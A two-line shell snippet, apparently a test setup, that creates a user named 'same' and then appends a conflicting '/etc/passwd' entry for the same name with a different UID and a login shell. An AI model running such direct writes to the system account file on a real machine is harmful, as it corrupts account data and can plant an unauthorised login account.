useradd -M -u 5900 same
echo 'same:x:5901:100::/home/same:/bin/sh' >>/etc/passwd
